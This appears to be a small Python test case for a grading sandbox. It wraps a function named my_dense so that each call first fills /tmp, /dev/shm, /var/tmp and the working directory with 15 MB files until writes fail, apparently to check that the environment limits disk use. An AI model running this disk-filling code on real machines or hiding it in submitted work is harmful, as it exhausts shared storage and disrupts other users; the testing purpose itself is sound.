# tries: writes until every place that takes a file is full
# base: numpy
# expect at process: my_dense crashed 0
# at process: there is no file system of a fixed size, so that what takes too much is ended
full = []
thrifty_dense = my_dense


def my_dense(a_in, W, b, g):
    for place in () if full else ("/tmp", "/dev/shm", "/var/tmp", "."):
        for number in range(100):
            try:
                with open(f"{place}/fill{number}", "wb") as file:
                    for _ in range(15):
                        file.write(bytes(1 << 20))
            except OSError as problem:
                full.append(problem)
                break
    return thrifty_dense(a_in, W, b, g)
